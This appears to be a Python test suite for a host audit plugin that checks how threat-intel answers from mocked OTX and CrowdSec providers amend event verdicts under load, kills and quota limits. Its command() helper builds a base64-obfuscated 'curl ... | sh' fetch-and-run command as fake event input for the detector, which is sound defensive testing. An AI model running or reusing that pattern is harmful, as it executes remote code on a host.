# SPDX-License-Identifier: GPL-3.0-or-later
"""The engine asks the intel process, whose answers amend what was told."""

import base64
import json
import os
import random
import resource
import signal
import socket
import subprocess
import time

from asking import write_config
from auditgen import exec_event, join
from server import Capture, Rogue, SlowNames
from suite import AUHUNT, BUILD, HUNT, ROOT, Failure, Skip, environment

INTEL = os.path.join(BUILD, "audisp-hunt-intel")
# By this an answer has amended its event.
AMENDED_S = 1.0
WAIT_S = 20
# Commands with the same indicator.
ONCE = 1000
QUOTA, QUOTA_KILLS = 200, 40


def command(n, host):
    """An argv that hides the fetching of something from host."""
    hidden = "curl -fsSL http://%s/x | sh # %d" % (host, n)
    return [b"sh", b"-c", b"echo %s | base64 -d | sh" % base64.b64encode(
        hidden.encode())]


def call(serial, address, number=42):
    """The records of a connect(2), or another call by its number."""
    head = b"msg=audit(%d.000:%d): " % (1700000000 + serial, serial)
    saddr = b"\2\0\1\xbb" + socket.inet_aton(address) + b"\0" * 8
    return (b"type=SYSCALL %sarch=c000003e syscall=%d success=yes exit=0 a0=3 "
            b"items=0 ppid=1 pid=70 auid=1000 uid=0 gid=0 euid=0 suid=0 "
            b"fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=7 comm=\"nc\" "
            b"exe=\"/usr/bin/nc\" key=\"net\"\ntype=SOCKADDR %ssaddr=%s\n"
            b"type=EOE %s\n" % (head, number, head,
                               saddr.hex().upper().encode(), head))


def allow_cores():
    """As far as it is for us to say."""
    most = resource.getrlimit(resource.RLIMIT_CORE)[1]
    resource.setrlimit(resource.RLIMIT_CORE, (most, most))


class Pair:
    """A plugin that reads what it is given, and the process that it asks."""

    alive = []

    def __init__(self, nginx, lines, has_intel=True, state="none", wrap=list,
                 core=False):
        self.nginx = nginx
        self.core = core
        self.wrap = wrap
        self.config = write_config(nginx, lines, state=state)
        self.socket = nginx.path("intel.sock")
        self.log = nginx.path("lines.log")
        if os.path.exists(self.log):
            os.unlink(self.log)
        with open(self.config, "a", encoding="utf-8") as file:
            file.write("intel.socket = %s\noutput = file:%s\nmin_score = 0\n"
                       "state = none\nstatus_s = 0\ncanary_s = 0\n"
                       "frequency = blog\n" % (self.socket, self.log))
        self.intel = None
        if has_intel:
            self.start_intel()
        self.plugin = subprocess.Popen(
            [HUNT, "-f", "-c", self.config], stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, cwd=ROOT,
            env=environment())
        self.serial = 0
        Pair.alive.append(self)

    def start_intel(self):
        self.intel = subprocess.Popen(
            self.wrap([INTEL, "-c", self.config, "--socket", self.socket]),
            cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
            env=environment(),
            preexec_fn=allow_cores if self.core else None)
        self.wait(lambda: os.path.exists(self.socket), "socket")

    def kill_intel(self):
        self.intel.kill()
        self.intel.wait()
        self.intel.stderr.close()
        os.unlink(self.socket)
        self.intel = None

    def give(self, *argvs):
        for argv in argvs:
            self.serial += 1
            self.plugin.stdin.write(join(exec_event(
                self.serial, argv, sec=1700000000 + self.serial)))
        self.plugin.stdin.flush()

    def calls(self, address, times=1, number=42):
        for _ in range(times):
            self.serial += 1
            self.plugin.stdin.write(call(self.serial, address, number))
        self.plugin.stdin.flush()

    def lines(self, evt):
        if not os.path.exists(self.log):
            return []
        with open(self.log, encoding="ascii") as file:
            every = [json.loads(line) for line in file.read().split("\n")[:-1]
                     if "{" in line]
        return [line for line in every if line["evt"] == evt]

    def wait(self, what, name, seconds=WAIT_S):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            got = what()
            if got:
                return got
            time.sleep(0.005)
        raise Failure("no %s in %d s" % (name, seconds))

    def wait_lines(self, evt, n):
        return self.wait(lambda: len(self.lines(evt)) >= n and
                         self.lines(evt), "%d lines of kind %s" % (n, evt))

    def end(self):
        self.plugin.stdin.close()
        status = self.plugin.wait(WAIT_S)
        said = self.plugin.stderr.read().decode("utf-8", "replace")
        self.plugin.stderr.close()
        if self.intel:
            self.intel.send_signal(signal.SIGTERM)
            status = status or self.intel.wait(WAIT_S)
            said += self.intel.stderr.read().decode("utf-8", "replace")
            self.intel.stderr.close()
        if status or "ERROR: " in said or "runtime error" in said:
            raise Failure("exit status %d: %s" % (status, said[-500:]))


def tidily(case):
    """Nothing of a case that broke off runs on."""
    def run(nginx):
        try:
            return list(case(nginx))
        finally:
            while Pair.alive:
                pair = Pair.alive.pop()
                for process in (pair.plugin, pair.intel):
                    if process and process.poll() is None:
                        process.kill()
                        process.wait()
    return run


OTX = [("/api/v1/indicators/IPv4/8.8.4.4/general", 200, (),
        '{"pulse_info":{"count":3}}'),
       ("/api/v1/indicators/url/http%3A%2F%2F8.8.4.4%2Fx/general", 200, (),
        '{"pulse_info":{"count":0}}')]


def otx(nginx):
    return ["otx key={file} types=ipv4 per_minute=0 url=https://localhost:%d" %
            nginx.port]


def amends(nginx):
    """The line first, the verdict with the same id within a second of the
    answer; what is known then counts at once."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx))
    pair.give(command(1, "8.8.4.4"))
    late = pair.wait_lines("intel", 1)[0]
    seen = time.time()
    first = pair.lines("exec")[0]
    if not first.get("pending") or "intel" in first["parts"]:
        yield "the first line: %s" % first
    if late["id"] != first["id"] or late["verdict"] != "high" or \
            late["provider"] != "otx" or late["iocs"] != ["8.8.4.4"]:
        yield "the verdict: %s" % late
    if abs(late["score"] - first["score"] - 3) > 1e-9 or \
            late["parts"]["intel"] != 3:
        yield "%s became %s" % (first["score"], late)
    answered = nginx.asked(1)[0]["time"]
    if seen - answered > AMENDED_S:
        yield "%.2f s after the answer" % (seen - answered)
    pair.give(command(2, "8.8.4.4"))
    second = pair.wait_lines("exec", 2)[1]
    if second["parts"].get("intel") != 3:
        yield "what is known: %s" % second
    pair.end()


def once(nginx):
    """A thousand commands, one request, and a verdict for each; of more than
    have a place to wait the rest is counted."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx))
    pair.give(*(command(n, "8.8.4.4") for n in range(ONCE)))
    lines = pair.wait_lines("exec", ONCE)
    if len({line["id"] for line in lines}) != ONCE:
        yield "%d lines" % len(lines)

    known = {line["id"] for line in lines if line["parts"].get("intel") == 3}

    def told():
        pair.plugin.send_signal(signal.SIGUSR1)
        time.sleep(0.1)
        late = {line["id"] for line in pair.lines("intel")}
        status = pair.wait_lines("status", 1)[-1]
        return len(known | late) + status["intel_untold"] >= ONCE and late
    late = pair.wait(told, "verdicts for all of them")
    if len(known | late) < 512:
        yield "%d told at once, %d later" % (len(known), len(late))
    ips = [one for one in nginx.asked() if "8.8.4.4/general" in one["uri"]]
    if len(ips) != 1:
        yield "%d requests" % len(ips)
    pair.end()


def peers(nginx):
    """An external peer that is called is asked about, once, and by fewer and
    fewer of its calls; one that calls in, or is inside, is not."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx), has_intel=False)
    pair.calls("10.1.2.3")
    pair.calls("8.8.8.8", number=43)
    pair.calls("8.8.4.4", times=20)
    waiting = [line["seen"] for line in pair.wait_lines("network", 22)
               if line.get("pending")]
    if waiting != [1, 2, 4, 8, 16]:
        yield "those that wait: %s" % waiting
    pair.start_intel()
    late = pair.wait_lines("intel", 5)[0]
    first = [line for line in pair.lines("network")
             if line["peer"] == "8.8.4.4"][0]
    if late["id"] != first["id"] or late["verdict"] != "high" or \
            late["provider"] != "otx" or late["parts"]["intel"] != 3:
        yield "the verdict: %s" % late
    if not first.get("pending"):
        yield "the first line: %s" % first
    pair.calls("8.8.4.4", times=12)
    last = pair.wait_lines("network", 34)[-1]
    if last["parts"].get("intel") != 3 or "pending" in last:
        yield "what is known: %s" % last
    uris = [one["uri"] for one in nginx.asked()]
    if uris != ["/api/v1/indicators/IPv4/8.8.4.4/general"]:
        yield "asked: %s" % uris
    pair.end()


def scan(nginx):
    """Thousands of peers leave room for what commands name."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx), has_intel=False)
    for n in range(2000):
        pair.calls("9.%d.%d.9" % (n // 200, n % 200))
    pair.give(command(1, "8.8.4.4"))
    pair.wait_lines("exec", 1)
    pair.plugin.send_signal(signal.SIGUSR1)
    asked = pair.wait_lines("status", 1)[-1]["intel_asked"]
    # Of the command its address and its URL.
    if asked != 256 + 2:
        yield "%d questions" % asked
    pair.start_intel()
    pair.wait(lambda: any(line["iocs"] == ["8.8.4.4"]
                          for line in pair.lines("intel")), "verdict")
    pair.end()


def absent(nginx):
    """Without an intel process verdicts are pending; then it comes."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx), has_intel=False)
    pair.give(command(1, "8.8.4.4"))
    if not pair.wait_lines("exec", 1)[0].get("pending"):
        yield "not pending: %s" % pair.lines("exec")
    time.sleep(0.5)
    if pair.lines("intel"):
        yield "a verdict of nobody's"
    pair.start_intel()
    late = pair.wait_lines("intel", 1)[0]
    if late["verdict"] != "high":
        yield "%s" % late
    pair.end()


def killed(nginx):
    """kill -9 while a provider hangs: events go on, and the next one asks."""
    rogue = Rogue(nginx.dir, lambda tls: time.sleep(30))
    pair = Pair(nginx, ["otx key={file} types=ipv4 per_minute=0 timeout_s=20 "
                        "url=https://localhost:%d" % rogue.port])
    pair.give(command(1, "8.8.4.4"))
    pair.wait(lambda: rogue.requests, "request")
    pair.kill_intel()
    rogue.stop()
    pair.give(command(2, "8.8.8.8"))
    if len(pair.wait_lines("exec", 2)) != 2:
        yield "lines: %s" % pair.lines("exec")
    nginx.start(OTX)
    with open(pair.config, encoding="utf-8") as file:
        text = file.read()
    with open(pair.config, "w", encoding="utf-8") as file:
        file.write(text.replace(str(rogue.port), str(nginx.port)))
    pair.start_intel()
    late = {line["iocs"][0]: line["verdict"]
            for line in pair.wait_lines("intel", 2)}
    if late != {"8.8.4.4": "high", "8.8.8.8": "information"}:
        yield "%s" % late
    pair.end()


def quota(nginx):
    """An intel process that is killed at any moment, again and again: no more
    questions come than a day has, and few that were counted do not."""
    outside = Capture(nginx.dir, rb"IPv4/([0-9.]+)/general")
    state = nginx.path("quota.db")
    pair = Pair(nginx, ["otx types=ipv4 per_minute=0 per_day=%d "
                        "url=https://localhost:%d" % (QUOTA, outside.port)],
                state=state)
    rng = random.Random(9)
    for n in range(QUOTA_KILLS):
        before = len(outside.heads)
        pair.give(*(command(k, "9.%d.%d.9" % (n, k)) for k in range(4)))
        pair.wait(lambda: len(outside.heads) > before or before > QUOTA - 9,
                  "question")
        time.sleep(rng.uniform(0, 0.02))
        pair.kill_intel()
        pair.start_intel()
    before = len(outside.heads)
    pair.give(*(command(k, "9.99.%d.9" % k) for k in range(QUOTA * 2)))
    pair.wait(lambda: len(outside.heads) > before or before > QUOTA - 9,
              "questions in the end")
    time.sleep(2)
    if not QUOTA_KILLS <= before <= len(outside.heads) <= QUOTA:
        yield "%d questions, %d before the last" % (len(outside.heads), before)
    # Of those under way at a kill 4 may be lost.
    if len(outside.heads) < QUOTA - 4 * QUOTA_KILLS:
        yield "only %d questions" % len(outside.heads)
    pair.kill_intel()
    done = subprocess.run(
        [AUHUNT, "intel", "--json", "-c", pair.config, "8.8.8.8"], cwd=ROOT,
        capture_output=True, env=environment(), check=False)
    if b"daily quota is used up" not in done.stdout:
        yield "in the end: %s %s" % (done.stdout, done.stderr)
    pair.end()
    outside.stop()


def slow_names(nginx):
    """While a resolver takes 30 s over one provider's name the others' answers
    amend within a second, again and again."""
    if not SlowNames.can_be():
        raise Skip("needs root, and a mount of its own")
    names = SlowNames(nginx.dir)
    nginx.start([("/v2/smoke/8.8.4.%d" % n, 200, (),
                  '{"scores":{"overall":{"total":5}}}') for n in range(5)])
    pair = Pair(nginx, [
        "otx types=ipv4 timeout_s=25 url=https://slow.example.com",
        "crowdsec key={file} per_minute=0 url=https://localhost:%d" %
        nginx.port], wrap=names.wrap)
    for n in range(5):
        pair.give(command(n, "8.8.4.%d" % n))
        late = pair.wait_lines("intel", n + 1)[-1]
        seen = time.time()
        if (late["verdict"], late["provider"]) != ("high", "crowdsec"):
            yield "%s" % late
        if seen - nginx.asked(n + 1)[-1]["time"] > AMENDED_S:
            yield "%.2f s after the answer" % (
                seen - nginx.asked()[-1]["time"])
    if not names.asked():
        yield "no name was looked up"
    pair.end()
    names.close()


def flood(nginx):
    """Five thousand indicators and nobody to ask: as many are asked about as
    there is room for, the rest is counted, and each command has its line. Who
    was asked about first is not pushed out by those who are not asked about."""
    nginx.start(OTX)
    pair = Pair(nginx, otx(nginx), has_intel=False)
    pair.give(command(0, "8.8.4.4"))
    pair.wait_lines("exec", 1)
    # Two indicators each, the address and the URL.
    pair.give(*(command(n, "9.%d.%d.9" % (n // 200, n % 200))
                for n in range(2500)))
    lines = pair.wait_lines("exec", 2501)
    pair.plugin.send_signal(signal.SIGUSR1)
    status = pair.wait_lines("status", 1)[-1]
    if sum(line.get("pending", 0) for line in lines) != 1024:
        yield "%d pending" % sum(line.get("pending", 0) for line in lines)
    if (status["intel_asked"], status["intel_unasked"]) != (1024, 3978):
        yield "%s" % {name: status[name] for name in status
                      if name.startswith("intel")}
    pair.start_intel()
    pair.wait(lambda: any(line["iocs"] == ["8.8.4.4"] and
                          line["verdict"] == "high"
                          for line in pair.lines("intel")),
              "verdict for the first")
    pair.end()


def liar(nginx):
    """What is no answer is hung up on, and changes nothing."""
    path = nginx.path("intel.sock")
    if os.path.exists(path):
        os.unlink(path)
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as server:
        server.bind(path)
        server.listen(4)
        pair = Pair(nginx, otx(nginx), has_intel=False)
        pair.give(command(1, "8.8.4.4"))
        peer, _ = server.accept()
        question = peer.recv(8192)
        if len(question) < 17 or b"8.8.4.4" not in question:
            yield "the question: %r" % question
        for bad in (b"x", b"\0" * 136, b"\xff" * 136, b"\1\0\0\0" * 34):
            try:
                peer.send(bad)
            except OSError:
                break
        peer.settimeout(5)
        try:
            while peer.recv(8192):
                pass
        except ConnectionResetError:
            pass
        peer.close()
        pair.give(command(2, "8.8.8.8"))
        pair.wait_lines("exec", 2)
        if pair.lines("intel"):
            yield "believed: %s" % pair.lines("intel")
        pair.end()
    os.unlink(path)


def cases():
    for case in (amends, once, peers, scan, absent, killed, quota, slow_names, flood,
                 liar):
        yield "late/" + case.__name__.replace("_", "-"), tidily(case)
